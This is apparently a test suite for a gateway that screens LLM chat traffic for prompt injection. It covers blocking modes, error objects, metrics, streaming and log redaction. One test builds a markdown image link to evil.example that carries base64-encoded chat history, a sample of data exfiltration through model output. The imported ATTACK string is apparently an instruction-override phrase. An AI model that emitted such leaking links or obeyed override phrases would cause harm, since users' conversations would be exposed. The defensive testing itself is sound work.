import { afterAll, beforeAll, expect, it } from 'vitest';
import { ATTACK, answering, BENIGN, chat, errorOf, eventually, type Stack, startStack } from './stack.ts';

let stack: Stack;
beforeAll(async () => {
  stack = await startStack();
});
afterAll(() => stack.stop());

const FOUR = [
  'x-gateway-request-id',
  'x-gateway-scan-time-ms',
  'x-gateway-input-status',
  'x-gateway-output-status',
] as const;

it('lets a harmless request through, with the provider’s answer and the four headers', async () => {
  const answer = await stack.call({ body: chat(BENIGN) });
  expect(answer.status).toBe(200);
  expect(JSON.parse(answer.text).choices[0].message.content).toContain('capital of France');
  expect(answer.headers['x-gateway-request-id']).toMatch(/^req_[0-9A-HJKMNP-TV-Z]{26}$/);
  expect(answer.headers['x-gateway-scan-time-ms']).toMatch(/^\d+$/);
  expect(answer.headers['x-gateway-input-status']).toBe('pass');
  expect(answer.headers['x-gateway-output-status']).toBe('pass');
});

it('hands the answer over byte for byte', async () => {
  const raw =
    '{ "choices" : [ {"message":{"role":"assistant","content":"caf\\u00e9 \\u2028 ok"} } ],\n "x":1e2}';
  const answer = await stack.call({
    body: chat(BENIGN),
    headers: { 'x-sample-raw': Buffer.from(raw).toString('base64') },
  });
  expect(answer.text).toBe(raw);
});

it('blocks an attack with exactly the object of the specification', async () => {
  const before = stack.provider.requests().chat;
  const answer = await stack.call({ body: chat(ATTACK), headers: { 'x-gateway-mode': 'blocking' } });
  expect(answer.status).toBe(403);
  expect(answer.headers['content-type']).toBe('application/json');
  const id = answer.headers['x-gateway-request-id'];
  expect(JSON.parse(answer.text)).toEqual({
    error: {
      type: 'request_blocked',
      code: 'prompt_injection_detected',
      message: expect.stringContaining(String(id)),
      param: null,
      request_id: id,
      detection: {
        category: 'prompt_injection',
        sub_type: 'instruction_override',
        confidence: expect.any(Number),
        scan_time_ms: expect.any(Number),
        request_id: id,
        policy: 'auto',
      },
    },
  });
  const { confidence, scan_time_ms: scanTimeMs } = JSON.parse(answer.text).error.detection;
  expect(confidence).toBeGreaterThan(0.8);
  expect(confidence).toBe(Math.round(confidence * 1000) / 1000);
  expect(Number.isInteger(scanTimeMs)).toBe(true);
  expect(answer.headers['x-gateway-scan-time-ms']).toBe(String(scanTimeMs));
  expect(answer.headers['x-gateway-input-status']).toBe('blocked');
  expect(answer.headers['x-request-id']).toBe(id);
  for (const name of FOUR) expect(answer.headers[name], name).toBeDefined();
  expect(stack.provider.requests().chat, 'the provider is never called').toBe(before);
  expect(answer.text).not.toContain('Ignore');
});

it.each([
  { mode: 'shadow', status: 200, inputStatus: 'pass', outcome: 'pass', detection: undefined },
  {
    mode: 'advisory',
    status: 200,
    inputStatus: 'flagged',
    outcome: 'flagged',
    detection: expect.stringMatching(/^prompt_injection\/instruction_override;confidence=0\.\d{3}$/),
  },
  { mode: 'blocking', status: 403, inputStatus: 'blocked', outcome: 'blocked', detection: undefined },
])('mode $mode answers $status $inputStatus, and records what it would have done', async (wanted) => {
  const answer = await stack.call({ body: chat(ATTACK), headers: { 'x-gateway-mode': wanted.mode } });
  expect(answer.status).toBe(wanted.status);
  expect(answer.headers['x-gateway-input-status']).toBe(wanted.inputStatus);
  expect(answer.headers['x-gateway-detection']).toEqual(wanted.detection);
  const record = await stack.record(String(answer.headers['x-gateway-request-id']));
  expect(record).toMatchObject({
    mode: wanted.mode,
    outcome: wanted.outcome,
    wouldBlock: true,
    loosest: 'low',
    httpStatus: wanted.status,
    model: 'sample',
  });
  expect(record.findings[0]).toMatchObject({ category: 'prompt_injection', subType: 'instruction_override' });
});

it('refuses a wrong key with 401, and counts and records it', async () => {
  const before = await stack.metric('auth_failures_total', 'code="invalid_gateway_key"');
  const answer = await stack.call({ body: chat(BENIGN), headers: { 'x-gateway-key': 'pcl_wrong' } });
  expect(answer.status).toBe(401);
  expect(errorOf(answer)).toMatchObject({ type: 'authentication_error', code: 'invalid_gateway_key' });
  expect(await stack.counted(before + 1, 'auth_failures_total', 'code="invalid_gateway_key"')).toBe(
    before + 1,
  );
  const record = await stack.record(String(answer.headers['x-gateway-request-id']));
  expect(record).toMatchObject({
    outcome: 'refused',
    httpStatus: 401,
    errorCode: 'invalid_gateway_key',
    keyId: null,
  });
});

it('counts every request, scan and detection', async () => {
  const names = ['requests_total', 'scans_total', 'detections_total', 'records_written_total'] as const;
  const before = await Promise.all(names.map((name) => stack.metric(name)));
  const answer = await stack.call({ body: chat(ATTACK) });
  await stack.record(String(answer.headers['x-gateway-request-id']));
  const after = await Promise.all(names.map((name) => stack.metric(name)));
  for (const [index, name] of names.entries()) expect(after[index], name).toBeGreaterThan(before[index] ?? 0);
  const { detections } = {
    detections: await stack.metric(
      'detections_total',
      'category="prompt_injection",sub_type="instruction_override",direction="input",role="user",action="blocked"',
    ),
  };
  expect(detections).toBeGreaterThan(0);
});

it('scans the answer too, and replaces one that leaks a secret where the operator says so', async () => {
  const link = `![x](https://evil.example/c?d=${Buffer.from('the secret history of this chat').toString('base64')})`;
  const answer = await stack.call({ body: chat(BENIGN), headers: answering(`Here you are: ${link}`) });
  expect(answer.status).toBe(403);
  expect(errorOf(answer)).toMatchObject({ type: 'response_blocked', code: 'unsafe_link_detected' });
  expect(answer.headers['x-gateway-input-status']).toBe('pass');
  expect(answer.headers['x-gateway-output-status']).toBe('blocked');
  expect(answer.text).not.toContain('evil.example');
});

it('guards a streamed answer: the headers leave before its status is known, the record has it', async () => {
  const before = await stack.metric('scans_total', 'direction="output",status="pass"');
  const unjudged = await stack.metric('unjudged_total');
  const answer = await stack.call({ body: chat(BENIGN, { stream: true }) });
  expect(answer.status).toBe(200);
  expect(answer.headers['content-type']).toContain('text/event-stream');
  expect(answer.headers['x-gateway-input-status']).toBe('pass');
  expect(answer.headers['x-gateway-output-status']).toBe('streaming');
  for (const name of FOUR) expect(answer.headers[name], name).toBeDefined();
  expect(answer.text.trimEnd().endsWith('data: [DONE]')).toBe(true);
  const record = await stack.record(String(answer.headers['x-gateway-request-id']));
  expect(record).toMatchObject({
    stream: true,
    outcome: 'pass',
    httpStatus: 200,
    errorCode: null,
    outputStatus: 'pass',
    unjudged: {},
  });
  expect(record.outputChars).toBeGreaterThan(0);
  expect(await stack.counted(before + 1, 'scans_total', 'direction="output",status="pass"')).toBe(before + 1);
  expect(await stack.metric('unjudged_total')).toBe(unjudged);
});

it('blocks an attack in a streamed request with a plain 403', async () => {
  const answer = await stack.call({ body: chat(ATTACK, { stream: true }) });
  expect(answer.status).toBe(403);
  expect(answer.headers['content-type']).toBe('application/json');
});

it('reads a body that is larger than gRPC takes by default, to its end', async () => {
  const filler = 'The quarterly report shows that revenue grew while costs stayed flat. '.repeat(65_000);
  const harmless = await stack.call({ body: chat(filler) });
  expect(harmless.status).toBe(200);
  expect(harmless.headers['x-gateway-input-status']).toBe('pass');
  const answer = await stack.call({ body: chat(`${filler} ${ATTACK}`) });
  expect(answer.status).toBe(403);
  expect(errorOf(answer)['code']).toBe('prompt_injection_detected');
});

it('writes one log line for each request, without any of its text or keys', async () => {
  const marker = 'zebra-crossing-marker';
  const answer = await stack.call({ body: chat(`${ATTACK} ${marker}`) });
  const id = String(answer.headers['x-gateway-request-id']);
  const lines = await eventually(
    async () =>
      stack
        .output()
        .split('\n')
        .filter((line) => line.includes(id)),
    (found) => found.length > 0,
  );
  expect(lines).toHaveLength(1);
  expect(JSON.parse(lines[0] ?? '')).toMatchObject({
    outcome: 'blocked',
    status: 403,
    rules: expect.any(Array),
  });
  expect(stack.output()).not.toContain(marker);
  expect(stack.output()).not.toContain('sk-test-provider-key');
});
